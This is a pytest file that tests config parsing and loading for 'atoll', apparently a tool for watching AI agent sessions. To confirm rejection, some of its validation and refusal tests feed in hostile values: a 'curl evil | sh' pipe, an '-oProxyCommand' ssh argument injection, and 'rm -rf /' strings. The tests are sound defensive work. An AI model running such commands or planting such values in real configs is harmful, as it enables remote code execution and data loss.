"""Table-driven tests of config parsing (atoll.core.config) and loading (atoll.config)."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from atoll.config import load_config, load_project_config
from atoll.core.config import (
    MAX_CONFIG_BYTES,
    Config,
    ConfigError,
    HostConfig,
    ProjectConfig,
    parse_config,
    parse_project_config,
)
from atoll.core.errors import ExitCode, UsageError

FULL = b"""
agent_users = ["wes-agent"]
agent_user_patterns = ["*-agent", "bot?"]
agent_group = "agents"
refresh_seconds = 0.5
record = true
notify_command = ["notify-send", "atoll"]
bell = false
ledger_path = "/var/lib/atoll/ledger.jsonl"

[[hosts]]
name = "b"
ssh = "hostb"
timeout = 3

[[hosts]]
name = "c"
ssh = "hostc.example.org"
"""


def test_defaults() -> None:
    cfg = parse_config(b"")
    assert cfg == Config()
    assert cfg.agent_user_patterns == ("*-agent",)
    assert cfg.agent_group == "atoll-agents"
    assert cfg.refresh_seconds == 2.0
    assert cfg.record is False and cfg.bell is True
    assert cfg.notify_command is None and cfg.ledger_path is None and cfg.hosts == ()


def test_full_file() -> None:
    cfg = parse_config(FULL)
    assert cfg.hosts == (
        HostConfig(name="b", ssh="hostb", timeout=3.0),
        HostConfig(name="c", ssh="hostc.example.org", timeout=None),
    )
    assert cfg.agent_users == ("wes-agent",)
    assert cfg.agent_user_patterns == ("*-agent", "bot?")
    assert cfg.agent_group == "agents"
    assert cfg.refresh_seconds == 0.5
    assert cfg.record is True and cfg.bell is False
    assert cfg.notify_command == ("notify-send", "atoll")
    assert cfg.ledger_path == "/var/lib/atoll/ledger.jsonl"


BAD_CONFIGS = [
    # (toml text, fragment the one-line message must contain)
    ("colour = 'red'", "unknown key 'colour'"),
    ("[[hosts]]\nname='b'\nssh='b'\nport=22", "unknown key 'port' in [[hosts]] entry 1"),
    ("[[hosts]]\nname='b'", "missing key 'ssh' in [[hosts]] entry 1"),
    ("[[hosts]]\nssh='b'", "missing key 'name'"),
    ("[[hosts]]\nname='b'\nssh='-oProxyCommand=x'", "invalid host name"),
    ("[[hosts]]\nname='b c'\nssh='b'", "invalid host name"),
    ("[[hosts]]\nname='local'\nssh='b'", "'local' is reserved"),
    ("[[hosts]]\nname='b'\nssh='x'\n[[hosts]]\nname='b'\nssh='y'", "duplicate host name 'b'"),
    ("[[hosts]]\nname='b'\nssh='b'\ntimeout=0", "timeout in [[hosts]] entry 1"),
    ("[[hosts]]\nname='b'\nssh='b'\ntimeout='5'", "Expected `float | null`, got `str`"),
    ("hosts = 'b'", "hosts must be an array of tables"),
    ("hosts = ['b']", "hosts entry 1 must be a table"),
    ("agent_users = ['Root!']", "agent_users: invalid user name"),
    ("agent_users = 'wes'", "Expected `array`"),
    ("agent_user_patterns = ['*;rm']", "invalid pattern"),
    ("agent_group = 'a b'", "agent_group: invalid group name"),
    ("refresh_seconds = -1", "refresh_seconds"),
    ("refresh_seconds = nan", "refresh_seconds"),
    ("record = 'yes'", "Expected `bool`"),
    ("notify_command = []", "notify_command must be a non-empty list"),
    ("notify_command = 'notify-send'", "Expected `array | null`"),
    ('notify_command = ["a\\nb"]', "notify_command must be"),
    ("ledger_path = ''", "ledger_path must be"),
    ("bell = 1", "Expected `bool`"),
    ("[x", "invalid TOML"),
]


@pytest.mark.parametrize(("text", "fragment"), BAD_CONFIGS)
def test_bad_config_is_a_one_line_usage_error(text: str, fragment: str) -> None:
    with pytest.raises(ConfigError) as info:
        parse_config(text.encode(), source="/cfg.toml")
    message = str(info.value)
    assert fragment in message
    assert message.startswith("/cfg.toml: ")
    assert "\n" not in message
    assert isinstance(info.value, UsageError)
    assert info.value.exit_code == ExitCode.USAGE


def test_not_utf8_and_too_big() -> None:
    with pytest.raises(ConfigError, match="not UTF-8"):
        parse_config(b"bell = \xff")
    with pytest.raises(ConfigError, match="larger than"):
        parse_config(b"#" * (MAX_CONFIG_BYTES + 1))


PROJECT_OK = [
    (b"", ProjectConfig()),
    (b"default_agent = 'codex'", ProjectConfig(default_agent="codex")),
    (b"bell = false", ProjectConfig(bell=False)),
    (
        b"columns = ['name', 'status']\nsort = 'idle_seconds'",
        ProjectConfig(columns=("name", "status"), sort="idle_seconds"),
    ),
]


@pytest.mark.parametrize(("data", "expected"), PROJECT_OK)
def test_project_config_harmless_keys(data: bytes, expected: ProjectConfig) -> None:
    assert parse_project_config(data) == expected


PROJECT_REFUSED = [
    ("hosts", "hosts = [{name = 'evil', ssh = 'evil'}]"),
    ("hosts", "[[hosts]]\nname = 'evil'\nssh = 'evil'"),
    ("notify_command", "notify_command = ['sh', '-c', 'curl evil | sh']"),
    ("ledger_path", "ledger_path = '/tmp/fake-ledger'"),
    ("agent_users", "agent_users = ['root']"),
    ("agent_user_patterns", "agent_user_patterns = ['*']"),
    ("agent_group", "agent_group = 'sudo'"),
    ("mounts", "mounts = ['/home']"),
    ("record", "record = false"),
]


@pytest.mark.parametrize(("key", "text"), PROJECT_REFUSED)
def test_project_config_refuses_dangerous_keys_by_name(key: str, text: str) -> None:
    with pytest.raises(ConfigError) as info:
        parse_project_config(text.encode(), source="/repo/.atoll.toml")
    assert f"may not set {key!r}" in str(info.value)
    assert info.value.exit_code == ExitCode.USAGE


PROJECT_BAD = [
    ("colour = 'red'", "unknown key 'colour'"),
    ("default_agent = 'rm -rf /'", "default_agent must be one of"),
    ("columns = ['name', 'password']", "unknown column 'password'"),
    ("sort = 'x'", "sort: unknown column"),
    ("bell = 'no'", "Expected `bool | null`"),
]


@pytest.mark.parametrize(("text", "fragment"), PROJECT_BAD)
def test_project_config_bad_values(text: str, fragment: str) -> None:
    with pytest.raises(ConfigError) as info:
        parse_project_config(text.encode())
    assert fragment in str(info.value)


def test_load_config_missing_default_file_gives_defaults(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    assert load_config() == Config()
    (tmp_path / "atoll").mkdir()
    (tmp_path / "atoll" / "config.toml").write_text("bell = false\nledger_path = '~/l.jsonl'\n")
    cfg = load_config()
    assert cfg.bell is False
    assert cfg.ledger_path == os.path.expanduser("~/l.jsonl")


def test_load_config_explicit_path(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="no such file"):
        load_config(tmp_path / "nope.toml")
    path = tmp_path / "c.toml"
    path.write_text("[[hosts]]\nname = 'b'\nssh = 'hostb'\n")
    assert load_config(path).hosts == (HostConfig(name="b", ssh="hostb"),)
    path.write_text("ledger_path = 'relative/ledger'\n")
    with pytest.raises(ConfigError, match="absolute"):
        load_config(path)


def test_load_project_config(tmp_path: Path) -> None:
    assert load_project_config(tmp_path) == ProjectConfig()
    (tmp_path / ".atoll.toml").write_text("default_agent = 'claude'\n")
    assert load_project_config(tmp_path).default_agent == "claude"


def test_project_file_symlink_and_non_regular_refused(tmp_path: Path) -> None:
    secret = tmp_path / "secret.toml"
    secret.write_text("default_agent = 'claude'\n")
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / ".atoll.toml").symlink_to(secret)
    with pytest.raises(ConfigError, match="symlink"):
        load_project_config(repo)
    repo2 = tmp_path / "repo2"
    (repo2 / ".atoll.toml").mkdir(parents=True)
    with pytest.raises(ConfigError, match=r"not a regular file|cannot read"):
        load_project_config(repo2)
